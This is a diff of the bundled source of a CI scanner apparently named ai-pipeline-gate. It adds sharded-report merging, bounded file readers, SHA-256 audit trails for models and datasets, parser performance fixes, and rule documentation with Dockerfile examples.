+    const bySeverity = Object.fromEntries(SEVERITIES.map((s) => [s, 0]));
+    let blocking = 0, reported = 0, suppressedInline = 0, excepted = 0;
+    for (const f of findings) {
+        f.blocking = !f.suppression && atLeast(f.severity, failOn);
+        if (f.suppression?.kind === 'inline')
+            suppressedInline++;
+        else if (f.suppression?.kind === 'exception')
+            excepted++;
+        else {
+            bySeverity[f.severity]++;
+            if (f.blocking)
+                blocking++;
+            else
+                reported++;
+        }
+    }
+    return { passed: blocking === 0, failOn, counts: { bySeverity, blocking, reported, suppressedInline, excepted } };
+}
+/** The one order every report uses: blocking first, then severity, path, line, column, rule, message. */
+function compareFindings(a, b) {
+    return (Number(b.blocking) - Number(a.blocking) ||
+        Number(Boolean(a.suppression)) - Number(Boolean(b.suppression)) ||
+        severityRank(a.severity) - severityRank(b.severity) ||
+        cmp$1(a.location.path, b.location.path) ||
+        (a.location.line ?? 0) - (b.location.line ?? 0) ||
+        (a.location.column ?? 0) - (b.location.column ?? 0) ||
+        cmp$1(a.ruleId, b.ruleId) ||
+        cmp$1(a.location.member ?? '', b.location.member ?? '') ||
+        (a.location.byteOffset ?? 0) - (b.location.byteOffset ?? 0) ||
+        cmp$1(a.message, b.message));
+}
+function cmp$1(a, b) {
+    return a < b ? -1 : a > b ? 1 : 0;
+}
+
+/** Parses one shard's JSON report, checking just enough of its shape to merge it safely. */
+function parseShardReport(source, text) {
+    let data;
+    try {
+        data = JSON.parse(text);
+    }
+    catch (error) {
+        throw new ConfigurationError(`${source} is not JSON (${error.message}); expected an ai-gate JSON report (--json FILE)`);
+    }
+    const r = data;
+    const ok = r !== null && typeof r === 'object' && r.tool?.name === 'ai-pipeline-gate' && Array.isArray(r.findings) &&
+        Array.isArray(r.rules) && typeof r.policy === 'object' && r.policy !== null && isSeverity(String(r.policy.failOn)) &&
+        typeof r.stats === 'object' && r.stats !== null;
+    if (!ok)
+        throw new ConfigurationError(`${source} is not an ai-gate JSON report (written by scan --json FILE)`);
+    return { source, report: r };
+}
+/**
+ * Combines the JSON reports of the shards of one scan (`scan --shard i/n`, i = 1..n) into one report with one
+ * verdict, as if the scan had run in one job. Refuses reports that do not belong together: a missing or
+ * repeated shard, different shard counts, policies, thresholds or tool versions, since a verdict made from
+ * them would be wrong without saying so.
+ */
+function mergeReports(inputs, failOnOverride) {
+    if (inputs.length === 0)
+        throw new ConfigurationError('merge needs at least one JSON report');
+    const first = inputs[0].report;
+    const total = first.shard?.total ?? 1;
+    const seen = new Map();
+    for (const { source, report } of inputs) {
+        const shard = report.shard ?? { index: 1, total: 1 };
+        if (shard.total !== total) {
+            throw new ConfigurationError(`${source} is shard ${shard.index}/${shard.total} but ${inputs[0].source} is of ${total} shards; merge the reports of one scan`);
+        }
+        const other = seen.get(shard.index);
+        if (other)
+            throw new ConfigurationError(`${source} and ${other} are both shard ${shard.index}/${total}`);
+        seen.set(shard.index, source);
+        mustAgree(source, inputs[0].source, 'tool version', report.tool.version, first.tool.version);
+        mustAgree(source, inputs[0].source, 'policy', `${report.policy.source} ${report.policy.sha256 ?? ''}`, `${first.policy.source} ${first.policy.sha256 ?? ''}`);
+        mustAgree(source, inputs[0].source, 'fail-on', report.policy.failOn, first.policy.failOn);
+        mustAgree(source, inputs[0].source, 'base', report.base ?? '(none)', first.base ?? '(none)');
+    }
+    const missing = Array.from({ length: total }, (_, i) => i + 1).filter((i) => !seen.has(i));
+    if (missing.length) {
+        throw new ConfigurationError(`shard ${missing.map((i) => `${i}/${total}`).join(', ')} missing: merge needs the JSON report of every shard, or the verdict would skip files`);
+    }
+    // Shards check disjoint files and only shard 1 runs run-level rules, so a repeated fingerprint is the same
+    // finding reported twice (e.g. the same report passed twice under two names): keep one.
+    const byKey = new Map();
+    for (const { report } of [...inputs].sort((a, b) => (a.report.shard?.index ?? 1) - (b.report.shard?.index ?? 1))) {
+        for (const f of report.findings) {
+            const key = `${f.ruleId}\0${f.location.path}\0${f.fingerprint}`;
+            if (!byKey.has(key))
+                byKey.set(key, { ...f });
+        }
+    }
+    const failOn = failOnOverride ?? first.policy.failOn;
+    const findings = [...byKey.values()];
+    const verdict = decide(findings, failOn);
+    findings.sort(compareFindings);
+    const notes = [...new Set(inputs.flatMap((i) => i.report.notes ?? []))];
+    if (total > 1)
+        notes.push(`Merged from ${total} shards (files split by path hash).`);
+    const { shard: _shard, ...rest } = first;
+    return {
+        ...rest,
+        policy: { ...first.policy, failOn },
+        stats: {
+            filesScanned: sum(inputs, (r) => r.stats.filesScanned),
+            bytesScanned: sum(inputs, (r) => r.stats.bytesScanned),
+            filesIgnored: first.stats.filesIgnored,
+            filesDeleted: first.stats.filesDeleted,
+            durationMs: Math.max(...inputs.map((i) => i.report.stats.durationMs || 0)),
+        },
+        verdict,
+        findings,
+        ...(notes.length ? { notes } : {}),
+    };
+}
+function mustAgree(source, firstSource, what, value, expected) {
+    if (value !== expected) {
+        throw new ConfigurationError(`${source} has ${what} "${value}" but ${firstSource} has "${expected}"; merge the reports of one scan`);
+    }
+}
+function sum(inputs, pick) {
+    return inputs.reduce((n, i) => n + (Number(pick(i.report)) || 0), 0);
+}
+
+/** download-artifact puts each artifact in its own folder: look this deep and no deeper. */
+const MAX_DEPTH$4 = 3;
+const MAX_REPORTS = 256;
+const MAX_REPORT_BYTES = 512 * 1024 * 1024;
+/**
+ * The shards' JSON reports under `folder` (relative to the workspace): every `*.json` file, sorted by path.
+ * Symlinks are not followed; a file that is not an ai-gate report is a configuration error naming it.
+ */
+async function readShardReports(workspace, folder) {
+    const root = join(workspace, folder);
+    const info = await lstat$1(root).catch(() => undefined);
+    if (!info?.isDirectory()) {
+        throw new ConfigurationError(`input reports "${folder}" is not a folder in the workspace; download the shards' report artifacts there (actions/download-artifact with path: ${folder})`);
+    }
+    const files = [];
+    const walk = async (dir, depth) => {
+        for (const entry of (await readdir$1(dir, { withFileTypes: true })).sort((a, b) => (a.name < b.name ? -1 : 1))) {
+            const path = join(dir, entry.name);
+            if (entry.isDirectory() && depth < MAX_DEPTH$4)
+                await walk(path, depth + 1);
+            else if (entry.isFile() && entry.name.endsWith('.json'))
+                files.push(path);
+            if (files.length > MAX_REPORTS)
+                throw new ConfigurationError(`more than ${MAX_REPORTS} JSON files under ${folder}; expected one report per shard`);
+        }
+    };
+    await walk(root, 0);
+    if (files.length === 0)
+        throw new ConfigurationError(`no JSON reports under ${folder}; each shard job must upload its report (ai-gate-report-*.json)`);
+    const out = [];
+    for (const file of files) {
+        const name = relative(workspace, file);
+        if ((await lstat$1(file)).size > MAX_REPORT_BYTES)
+            throw new ConfigurationError(`${name} is larger than ${MAX_REPORT_BYTES} bytes; not a shard report`);
+        out.push(parseShardReport(name, await readFile$1(file, 'utf8')));
+    }
+    return out;
 }
 
 const SARIF_SCHEMA_URI = 'https://json.schemastore.org/sarif-2.1.0.json';
@@ -50471,11 +50740,11 @@ function requireScan () {
 }
 
 var parse_1;
-var hasRequiredParse;
+var hasRequiredParse$1;
 
-function requireParse () {
-	if (hasRequiredParse) return parse_1;
-	hasRequiredParse = 1;
+function requireParse$1 () {
+	if (hasRequiredParse$1) return parse_1;
+	hasRequiredParse$1 = 1;
 
 	const constants = /*@__PURE__*/ requireConstants();
 	const utils = /*@__PURE__*/ requireUtils();
@@ -51911,7 +52180,7 @@ function requirePicomatch$1 () {
 	hasRequiredPicomatch$1 = 1;
 
 	const scan = /*@__PURE__*/ requireScan();
-	const parse = /*@__PURE__*/ requireParse();
+	const parse = /*@__PURE__*/ requireParse$1();
 	const utils = /*@__PURE__*/ requireUtils();
 	const constants = /*@__PURE__*/ requireConstants();
 	const isObject = val => val && typeof val === 'object' && !Array.isArray(val);
@@ -52778,7 +53047,10 @@ function byName(lower, base, ext, head) {
         return { kind: 'dataset', format: 'json' };
     if (ext === '.yml' || ext === '.yaml') {
         const k8s = /^\s*(-\s+)?apiVersion\s*:/m.test(headText) && /^\s*(-\s+)?kind\s*:/m.test(headText);
-        return { kind: k8s ? 'k8s' : 'config', format: 'yaml' };
+        // A compiled Kubeflow Pipelines v2 spec has no apiVersion/kind; its components (first, in key order) name their
+        // executors, and deploymentSpec.executors holds the containers.
+        const kfp = (/^(components|pipelineSpec|deploymentSpec)\s*:/m.test(headText) && /^\s+executor(s|Label)\s*:/m.test(headText));
+        return { kind: k8s || kfp ? 'k8s' : 'config', format: 'yaml' };
     }
     if (CONFIG_EXT.has(ext))
         return { kind: 'config', format: TEXT_FORMAT[ext] ?? 'text' };
@@ -52923,9 +53195,9 @@ async function discover(opts) {
         ctx.listed.add(c.path);
     }
     await pool(todo, CONCURRENCY, (c) => inspect$2(ctx, c));
-    ctx.files.sort((a, b) => cmp$1(a.path, b.path));
-    ctx.issues.sort((a, b) => cmp$1(a.path, b.path) || cmp$1(a.kind, b.kind));
-    const deletedPaths = [...new Set(deleted.map(lossy))].filter((p) => !p.split('/').includes('.git') && !isIgnored(p)).sort(cmp$1);
+    ctx.files.sort((a, b) => cmp(a.path, b.path));
+    ctx.issues.sort((a, b) => cmp(a.path, b.path) || cmp(a.kind, b.kind));
+    const deletedPaths = [...new Set(deleted.map(lossy))].filter((p) => !p.split('/').includes('.git') && !isIgnored(p)).sort(cmp);
     opts.logger.debug(`discovery: ${ctx.files.length} files, ${ctx.issues.length} issues, ${ignored} ignored, ${deletedPaths.length} deleted`);
     return { files: ctx.files, issues: ctx.issues, ignored, deleted: deletedPaths };
 }
@@ -52966,7 +53238,7 @@ async function listCandidates(root, opts) {
 function lossy(raw) {
     return raw.toString('utf8');
 }
-function cmp$1(a, b) {
+function cmp(a, b) {
     return a < b ? -1 : a > b ? 1 : 0;
 }
 function ignoreMatcher(patterns) {
@@ -53275,49 +53547,19 @@ function normaliseLineKey(line) {
 /** The most that one `read(offset, length)` call returns, so that a lying length field cannot ask for 4 GB. */
 const MAX_RANDOM_READ = 64 * 1024 * 1024;
 /**
- * One open handle per file, shared by every rule that looks at it. Reads are bounded by the policy's caps;
- * when a cap cuts a read, `capped` records it so the engine can report it (never silent).
+ * What the engine hands rules (through FileReader) and uses itself: bounded reads of one file, shared by every
+ * rule that looks at it. When a cap cuts a read, `capped` records it so the engine can report it (never silent).
  */
-class HandleReader {
-    handle;
+class EngineReader {
     size;
     maxFileBytes;
     maxTextBytes;
     capped;
     textCache;
-    constructor(handle, size, maxFileBytes, maxTextBytes) {
-        this.handle = handle;
+    constructor(size, maxFileBytes, maxTextBytes) {
         this.size = size;
         this.maxFileBytes = maxFileBytes;
         this.maxTextBytes = maxTextBytes;
-    }
-    /** Opens without following a final symlink and without blocking on a FIFO that replaced the file. */
-    static async open(absPath, limits) {
-        const handle = await promises$1.open(absPath, constants$7.O_RDONLY | constants$7.O_NONBLOCK | constants$7.O_NOFOLLOW);
-        try {
-            const stat = await handle.stat();
-            if (!stat.isFile())
-                throw new Error('not a regular file any more');
-            return new HandleReader(handle, stat.size, limits.maxFileBytes, limits.maxTextBytes);
-        }
-        catch (error) {
-            await handle.close();
-            throw error;
-        }
-    }
-    async read(offset, length) {
-        if (!Number.isSafeInteger(offset) || offset < 0 || offset >= this.size || length <= 0)
-            return Buffer.alloc(0);
-        const want = Math.min(length, MAX_RANDOM_READ, this.size - offset);
-        const buf = Buffer.allocUnsafe(want);
-        let got = 0;
-        while (got < want) {
-            const { bytesRead } = await this.handle.read(buf, got, want - got, offset + got);
-            if (bytesRead === 0)
-                break;
-            got += bytesRead;
-        }
-        return got === want ? buf : buf.subarray(0, got);
     }
     async *stream(chunkSize = 1024 * 1024) {
         const limit = Math.min(this.size, this.maxFileBytes);
@@ -53352,9 +53594,124 @@ class HandleReader {
         this.textCache = { text, truncated };
         return this.textCache;
     }
+    /**
+     * The text of just the given 1-based lines (as `text()` would split them: UTF-8, BOM stripped, `\r\n` or
+     * `\n`), read as a stream up to the text cap and stopping after the last one wanted; each line is kept to
+     * `maxLineBytes`. Findings need their lines for fingerprints and inline suppressions, and this costs a
+     * bounded buffer instead of the whole file as one string.
+     */
+    async lines(wanted, maxLineBytes = 256 * 1024) {
+        const out = new Map();
+        if (wanted.size === 0)
+            return out;
+        let last = 0;
+        for (const n of wanted)
+            if (n > last)
+                last = n;
+        if (this.textCache) {
+            const all = this.textCache.text.split(/\r?\n/);
+            for (const n of wanted)
+                if (n >= 1 && n <= all.length)
+                    out.set(n, all[n - 1].slice(0, maxLineBytes));
+            return out;
+        }
+        const limit = Math.min(this.size, this.maxTextBytes);
+        let line = 1;
+        let parts = [];
+        let kept = 0;
+        const emit = () => {
+            if (wanted.has(line)) {
+                let text = Buffer.concat(parts).toString('utf8');
+                if (line === 1)
+                    text = text.replace(/^\uFEFF/, '');
+                out.set(line, text.endsWith('\r') ? text.slice(0, -1) : text);
+            }
+            parts = [];
+            kept = 0;
+        };
+        for (let offset = 0; offset < limit && line <= last;) {
+            const chunk = await this.read(offset, Math.min(1024 * 1024, limit - offset));
+            if (chunk.length === 0)
+                break;
+            offset += chunk.length;
+            let start = 0;
+            while (start <= chunk.length && line <= last) {
+                const nl = chunk.indexOf(0x0a, start);
+                const end = nl === -1 ? chunk.length : nl;
+                if (wanted.has(line) && kept < maxLineBytes) {
+                    const piece = chunk.subarray(start, Math.min(end, start + maxLineBytes - kept));
+                    parts.push(Buffer.from(piece));
+                    kept += piece.length;
+                }
+                if (nl === -1)
+                    break;
+                emit();
+                line++;
+                start = nl + 1;
+            }
+        }
+        if (line <= last)
+            emit();
+        return out;
+    }
+}
+/** One open handle per file. */
+class HandleReader extends EngineReader {
+    handle;
+    constructor(handle, size, maxFileBytes, maxTextBytes) {
+        super(size, maxFileBytes, maxTextBytes);
+        this.handle = handle;
+    }
+    /** Opens without following a final symlink and without blocking on a FIFO that replaced the file. */
+    static async open(absPath, limits) {
+        const handle = await promises$1.open(absPath, constants$7.O_RDONLY | constants$7.O_NONBLOCK | constants$7.O_NOFOLLOW);
+        try {
+            const stat = await handle.stat();
+            if (!stat.isFile())
+                throw new Error('not a regular file any more');
+            return new HandleReader(handle, stat.size, limits.maxFileBytes, limits.maxTextBytes);
+        }
+        catch (error) {
+            await handle.close();
+            throw error;
+        }
+    }
+    async read(offset, length) {
+        if (!Number.isSafeInteger(offset) || offset < 0 || offset >= this.size || length <= 0)
+            return Buffer.alloc(0);
+        const want = Math.min(length, MAX_RANDOM_READ, this.size - offset);
+        const buf = Buffer.allocUnsafe(want);
+        let got = 0;
+        while (got < want) {
+            const { bytesRead } = await this.handle.read(buf, got, want - got, offset + got);
+            if (bytesRead === 0)
+                break;
+            got += bytesRead;
+        }
+        return got === want ? buf : buf.subarray(0, got);
+    }
     async close() {
         await this.handle.close();
     }
+}
+/**
+ * A file whose every byte discovery already read (its `head`, taken through the same no-follow, non-blocking
+ * open): served from memory. Most files of a repository are this small, and opening, stat-ing, reading and
+ * closing each one a second time cost more than every rule that looks at them.
+ */
+class BufferReader extends EngineReader {
+    bytes;
+    constructor(bytes, limits) {
+        super(bytes.length, limits.maxFileBytes, limits.maxTextBytes);
+        this.bytes = bytes;
+    }
+    async read(offset, length) {
+        if (!Number.isSafeInteger(offset) || offset < 0 || offset >= this.size || length <= 0)
+            return Buffer.alloc(0);
+        // A copy, so that a rule writing into what it was given cannot change what the next rule reads.
+        return Buffer.from(this.bytes.subarray(offset, offset + Math.min(length, MAX_RANDOM_READ)));
+    }
+    async close() { }
 }
 
 /**
@@ -53423,67 +53780,50 @@ function applyExceptions(findings, exceptions, today) {
     }
 }
 
-/** Sets `blocking` on every finding and counts them. A suppressed finding never blocks. */
-function decide(findings, failOn) {
-    const bySeverity = Object.fromEntries(SEVERITIES.map((s) => [s, 0]));
-    let blocking = 0, reported = 0, suppressedInline = 0, excepted = 0;
-    for (const f of findings) {
-        f.blocking = !f.suppression && atLeast(f.severity, failOn);
-        if (f.suppression?.kind === 'inline')
-            suppressedInline++;
-        else if (f.suppression?.kind === 'exception')
-            excepted++;
-        else {
-            bySeverity[f.severity]++;
-            if (f.blocking)
-                blocking++;
-            else
-                reported++;
-        }
-    }
-    return { passed: blocking === 0, failOn, counts: { bySeverity, blocking, reported, suppressedInline, excepted } };
-}
-/** The one order every report uses: blocking first, then severity, path, line, column, rule, message. */
-function compareFindings(a, b) {
-    return (Number(b.blocking) - Number(a.blocking) ||
-        Number(Boolean(a.suppression)) - Number(Boolean(b.suppression)) ||
-        severityRank(a.severity) - severityRank(b.severity) ||
-        cmp(a.location.path, b.location.path) ||
-        (a.location.line ?? 0) - (b.location.line ?? 0) ||
-        (a.location.column ?? 0) - (b.location.column ?? 0) ||
-        cmp(a.ruleId, b.ruleId) ||
-        cmp(a.location.member ?? '', b.location.member ?? '') ||
-        (a.location.byteOffset ?? 0) - (b.location.byteOffset ?? 0) ||
-        cmp(a.message, b.message));
-}
-function cmp(a, b) {
-    return a < b ? -1 : a > b ? 1 : 0;
-}
-
 /** Ids of the findings the engine itself makes. Their rule files hold the meta and docs. */
 const RULE_ERROR = 'policy/rule-error';
 const SCAN_LIMIT = 'policy/scan-limit';
+/** Files at least this large are checked one at a time (see runEngine). */
+const LARGE_FILE_BYTES = 16 * 1024 * 1024;
 async function runEngine(opts) {
     const { policy, discovery } = opts;
     const enabled = opts.rules.filter((r) => policy.rules[r.meta.id]?.enabled);
-    const perFile = new Array(discovery.files.length);
+    const files = opts.shard ? discovery.files.filter((f) => inShard(f.path, opts.shard)) : discovery.files;
+    const perFile = new Array(files.length);
     let next = 0, done = 0, bytesScanned = 0;
+    // Rules work on the main thread, so a large file gains nothing from company and several at once only add
+    // up their buffers and garbage: large files take turns while small ones fill the other slots.
+    let largeTurn = Promise.resolve();
     const worker = async () => {
-        while (next < discovery.files.length) {
+        while (next < files.length) {
             const index = next++;
-            const file = discovery.files[index];
-            perFile[index] = await checkFile(file, enabled, opts);
+            const file = files[index];
+            if (file.size >= LARGE_FILE_BYTES) {
+                const previous = largeTurn;
+                let release;
+                largeTurn = new Promise((done) => { release = done; });
+                await previous;
+                try {
+                    perFile[index] = await checkFile(file, enabled, opts);
+                }
+                finally {
+                    release();
+                }
+            }
+            else {
+                perFile[index] = await checkFile(file, enabled, opts);
+            }
             bytesScanned += file.size;
-            opts.onProgress?.(++done, discovery.files.length, file.path);
+            opts.onProgress?.(++done, files.length, file.path);
         }
     };
     await Promise.all(Array.from({ length: Math.max(1, opts.concurrency ?? 4) }, worker));
-    const runFindings = await checkRun(enabled, opts);
+    const runFindings = !opts.shard || opts.shard.index === 1 ? await checkRun(enabled, opts) : [];
     const findings = [...perFile.flat(), ...runFindings];
     applyExceptions(findings, policy.exceptions, opts.today);
     const verdict = decide(findings, policy.failOn);
     findings.sort(compareFindings);
-    return { findings, verdict, bytesScanned };
+    return { findings, verdict, bytesScanned, filesScanned: files.length };
 }
 function applicable(rule, file) {
     if (!rule.checkFile || !rule.meta.kinds.includes(file.kind))
@@ -53499,7 +53839,9 @@ async function checkFile(file, enabled, opts) {
         ? baseOpener(opts.baseFiles, file.previousPath ?? file.path, opts.policy.limits) : undefined;
     let reader;
     try {
-        reader = await HandleReader.open(file.absPath, opts.policy.limits);
+        reader = file.head.length === file.size && file.size <= HEAD_BYTES
+            ? new BufferReader(file.head, opts.policy.limits)
+            : await HandleReader.open(file.absPath, opts.policy.limits);
     }
     catch (error) {
         engineFinding(raw, opts.policy, SCAN_LIMIT, file.path, `Could not open the file to scan it (${describe$1(error)}); it was not checked.`);
@@ -53528,14 +53870,33 @@ async function checkFile(file, enabled, opts) {
         if (reader.capped) {
             engineFinding(raw, opts.policy, SCAN_LIMIT, file.path, `The scan stopped at the policy's read limit (${reader.capped}); findings past that point may be missing.`);
         }
-        const needsLines = raw.some((f) => f.location.line !== undefined);
-        const lines = needsLines ? (await reader.text()).text.split(/\r?\n/) : [];
-        return finish(raw, file.path, lines);
+        return finish(raw, file.path, await findingLines(reader, raw));
     }
     finally {
         await base?.close();
         await reader.close();
     }
+}
+/**
+ * The lines that findings point at (and the line above each, for inline suppressions), as a sparse array
+ * indexed like `text.split(/\r?\n/)`: only those lines are decoded, never the whole file at once.
+ */
+async function findingLines(reader, raw) {
+    const wanted = new Set();
+    for (const f of raw) {
+        const line = f.location.line;
+        if (line === undefined || !Number.isSafeInteger(line) || line < 1)
+            continue;
+        wanted.add(line);
+        if (line > 1)
+            wanted.add(line - 1);
+    }
+    if (wanted.size === 0)
+        return [];
+    const lines = [];
+    for (const [n, text] of await reader.lines(wanted))
+        lines[n - 1] = text;
+    return lines;
 }
 async function checkRun(enabled, opts) {
     const raw = [];
@@ -53651,6 +54012,81 @@ function describe$1(error) {
 }
 
 /**
+ * The audit trail in the JSON report: which policy judged the change (its file's digest, and a digest of the
+ * policy as resolved, so that a built-in policy has one too), which rule set (the tool's version and a digest
+ * of the enabled rules with their settings), the SHA-256 of every model and dataset scanned, and the verdict.
+ *
+ * Hashing is the one full read of each model and dataset, streamed in 4 MiB chunks (memory stays bounded
+ * whatever the size), a few files at once; a file larger than the policy's read limit is hashed up to the
+ * limit and marked `truncated`. Its cost is the speed of Node's SHA-256 (about 1.1 GB/s on the reference runner).
+ */
+const CHUNK$3 = 4 * 1024 * 1024;
+/** JSON with object keys sorted, so that equal values digest equally. */
+function canonical(v) {
+    if (Array.isArray(v))
+        return `[${v.map(canonical).join(',')}]`;
+    if (v && typeof v === 'object')
+        return `{${Object.keys(v).sort().map((k) => `${JSON.stringify(k)}:${canonical(v[k])}`).join(',')}}`;
+    return JSON.stringify(v) ?? 'null';
+}
+const sha = (s) => createHash('sha256').update(s).digest('hex');
+/** SHA-256 of a file's first `max` bytes, streamed; undefined when it cannot be opened. */
+async function hashStream(absPath, max) {
+    let handle;
+    try {
+        handle = await promises$1.open(absPath, constants$7.O_RDONLY | constants$7.O_NONBLOCK | constants$7.O_NOFOLLOW);
+    }
+    catch {
+        return undefined;
+    }
+    try {
+        const { size } = await handle.stat();
+        const end = Math.min(size, max);
+        const hash = createHash('sha256');
+        const buf = Buffer.allocUnsafe(Math.max(1, Math.min(CHUNK$3, end)));
+        let at = 0;
+        while (at < end) {
+            const { bytesRead } = await handle.read(buf, 0, Math.min(buf.length, end - at), at);
+            if (bytesRead === 0)
+                break;
+            hash.update(buf.subarray(0, bytesRead));
+            at += bytesRead;
+        }
+        return { sha256: hash.digest('hex'), bytes: at, truncated: at < size };
+    }
+    finally {
+        await handle.close();
+    }
+}
+async function auditTrail(opts) {
+    const { policy } = opts;
+    const enabled = opts.ruleIds.filter((id) => policy.rules[id]?.enabled).sort();
+    const settings = Object.fromEntries(enabled.map((id) => [id, { severity: policy.rules[id].severity, options: policy.rules[id].options }]));
+    const resolved = { extends: policy.extends, failOn: policy.failOn, scope: policy.scope, paths: policy.paths, exceptions: policy.exceptions, limits: policy.limits, rules: settings };
+    const targets = opts.files.filter((f) => f.kind === 'model' || f.kind === 'dataset');
+    const artifacts = new Array(targets.length);
+    let next = 0;
+    const worker = async () => {
+        while (next < targets.length) {
+            const i = next++;
+            const f = targets[i];
+            const h = await hashStream(f.absPath, policy.limits.maxFileBytes);
+            artifacts[i] = {
+                path: f.path, kind: f.kind, format: f.format, size: f.size,
+                ...(h ? { sha256: h.sha256 } : {}), ...(h?.truncated ? { truncated: true } : {}), ...(h ? {} : { unreadable: true }),
+            };
+        }
+    };
+    await Promise.all(Array.from({ length: Math.max(1, opts.concurrency ?? 4) }, worker));
+    return {
+        policy: { source: policy.source, ...(policy.sha256 ? { sha256: policy.sha256 } : {}), resolvedSha256: sha(canonical(resolved)) },
+        ruleSet: { toolVersion: opts.toolVersion, rulesEnabled: enabled.length, sha256: sha(canonical(settings)) },
+        artifacts: artifacts.sort((a, b) => (a.path < b.path ? -1 : a.path > b.path ? 1 : 0)),
+        verdict: { passed: opts.verdict.passed, failOn: opts.verdict.failOn, blocking: opts.verdict.counts.blocking },
+    };
+}
+
+/**
  * Several rules look at the same config file; each parse happens once per file (the engine gives every rule of a
  * file the same reader). A parse error is cached too, so that every rule sees the same FormatError.
  */
@@ -53703,15 +54139,20 @@ function parseDockerfile(text) {
             i++;
             continue;
         }
-        let body = first;
-        while (endsWithEscape(body, escape) && i + 1 < lines.length) {
-            body = body.replace(/\s*$/, '').slice(0, -1).replace(/\s+$/, '');
+        // Continued lines are collected as parts and joined once: re-trimming the growing body on every line
+        // made a file of many continuations take quadratic time.
+        const parts = [first];
+        while (endsWithEscape(parts[parts.length - 1], escape) && i + 1 < lines.length) {
+            parts[parts.length - 1] = parts[parts.length - 1].trimEnd().slice(0, -1).trimEnd();
+            if (parts.length > 1 && parts[parts.length - 1] === '')
+                parts.pop();
             i++;
             while (i < lines.length && /^\s*#/.test(lines[i]))
                 i++; // comments inside a continued instruction
             if (i < lines.length)
-                body += ` ${lines[i].trim()}`;
+                parts.push(lines[i].trim());
         }
+        const body = parts.join(' ');
         i++;
         const m = /^(\s*)([A-Za-z]+)(\s+|$)(.*)$/.exec(body);
         if (!m)
@@ -53741,7 +54182,7 @@ function parseDockerfile(text) {
     return { instructions, stages, escape };
 }
 function endsWithEscape(line, escape) {
-    return line.replace(/\s+$/, '').endsWith(escape);
+    return line.trimEnd().endsWith(escape);
 }
 function heredocTags(args) {
     const out = [];
@@ -54432,6 +54873,40 @@ var containerRootUser = defineRule({
             '(e.g. a distroless `:nonroot` tag); also set `runAsNonRoot: true` in the Kubernetes manifest.',
         ].join('\n'),
         defaultSeverity: 'medium',
+        docs: {
+            examples: {
+                bad: [
+                    {
+                        title: 'A model server image with no USER runs as root',
+                        lang: 'dockerfile',
+                        file: 'Dockerfile',
+                        code: [
+                            'FROM python:3.12-slim',
+                            'COPY serve.py /app/serve.py',
+                            'CMD ["python", "/app/serve.py"]',
+                        ].join('\n'),
+                    },
+                ],
+                good: [
+                    {
+                        title: 'An unprivileged user for the final stage',
+                        lang: 'dockerfile',
+                        file: 'Dockerfile',
+                        code: [
+                            'FROM python:3.12-slim',
+                            'RUN useradd --create-home --uid 10001 app',
+                            'COPY serve.py /app/serve.py',
+                            'USER app',
+                            'CMD ["python", "/app/serve.py"]',
+                        ].join('\n'),
+                    },
+                ],
+            },
+            references: [
+                { title: 'Dockerfile reference: USER', url: 'https://docs.docker.com/reference/dockerfile/#user' },
+                { title: 'Kubernetes Pod Security Standards (restricted requires runAsNonRoot)', url: 'https://kubernetes.io/docs/concepts/security/pod-security-standards/' },
+            ],
+        },
         kinds: ['dockerfile'],
         options: { type: 'object', properties: {}, additionalProperties: false },
         defaultOptions: {},
@@ -54823,7 +55298,7 @@ function cardEntries(cardPath, value) {
 
 const MAX_MANIFEST_BYTES = 4 * 1024 * 1024;
 const ALGO = { sha256: 'SHA-256', md5: 'MD5' };
-const short = (h) => `${h.slice(0, 12)}…`;
+const short$1 = (h) => `${h.slice(0, 12)}…`;
 var dataChecksum = defineRule({
     meta: {
         id: 'data/checksum',
@@ -54934,16 +55409,16 @@ async function verifyEntry(ctx, root, manifest, e, dvc) {
             const oidWrong = e.algo === 'sha256' && pointer.oid !== e.hash;
             const sizeWrong = e.size !== undefined && e.size !== pointer.size;
             if (oidWrong || sizeWrong) {
-                ctx.report({ ...where, message: `${e.target} is a Git LFS pointer whose ${oidWrong ? `oid ${short(pointer.oid)} differs from the manifest's ${short(e.hash)}` : `size ${pointer.size} differs from the manifest's ${e.size}`}; the content was not in the checkout and was not scanned. Update the manifest if the change is intended, or restore the file.` });
+                ctx.report({ ...where, message: `${e.target} is a Git LFS pointer whose ${oidWrong ? `oid ${short$1(pointer.oid)} differs from the manifest's ${short$1(e.hash)}` : `size ${pointer.size} differs from the manifest's ${e.size}`}; the content was not in the checkout and was not scanned. Update the manifest if the change is intended, or restore the file.` });
             }
             else if (ctx.options['report-lfs']) {
-                ctx.report({ ...where, severity: 'low', message: `${e.target} is a Git LFS pointer (oid ${short(pointer.oid)}, ${pointer.size} bytes)${e.algo === 'sha256' ? ' that matches the manifest' : ''}; its content was not in the checkout and was not scanned. Check out with LFS so the gate can read it.` });
+                ctx.report({ ...where, severity: 'low', message: `${e.target} is a Git LFS pointer (oid ${short$1(pointer.oid)}, ${pointer.size} bytes)${e.algo === 'sha256' ? ' that matches the manifest' : ''}; its content was not in the checkout and was not scanned. Check out with LFS so the gate can read it.` });
             }
             return;
         }
         case 'content':
             if (state.hash !== e.hash || (e.size !== undefined && e.size !== state.size)) {
-                const what = state.hash !== e.hash ? `its ${algo} is ${short(state.hash)} but the manifest records ${short(e.hash)}` : `it is ${state.size} bytes but the manifest records ${e.size}`;
+                const what = state.hash !== e.hash ? `its ${algo} is ${short$1(state.hash)} but the manifest records ${short$1(e.hash)}` : `it is ${state.size} bytes but the manifest records ${e.size}`;
                 ctx.report({ ...where, message: `${e.target} does not match this manifest: ${what}. Update the manifest in this PR if the change is intended, or restore the file.` });
             }
     }
@@ -54982,11 +55457,16 @@ class CsvParser {
     *push(text, final) {
         const buf = this.buf.length ? this.buf + text : text;
         let p = 0;
+        // The next quote at or after p, found again only once p passes it: searching afresh for every record made
+        // a chunk of many short unquoted lines cost quadratic time.
+        let nextQuote = -2;
         for (;;) {
             if (p >= buf.length)
                 break;
             const nl = buf.indexOf('\n', p);
-            const quote = buf.indexOf('"', p);
+            if (nextQuote !== -1 && nextQuote < p)
+                nextQuote = buf.indexOf('"', p);
+            const quote = nextQuote;
             if (quote < 0 || (nl >= 0 && quote > nl)) {
                 // Fast path: the whole record is one line without quotes.
                 if (nl < 0 && !final)
@@ -55092,6 +55572,15 @@ function countNewlines(s, from, to) {
     for (let k = s.indexOf('\n', from); k >= 0 && k < to; k = s.indexOf('\n', k + 1))
         n++;
     return n;
+}
+/** The delimiter a CSV-like file most likely uses, from its format and first line. */
+function sniffDelimiter(format, head) {
+    if (format === 'tsv')
+        return '\t';
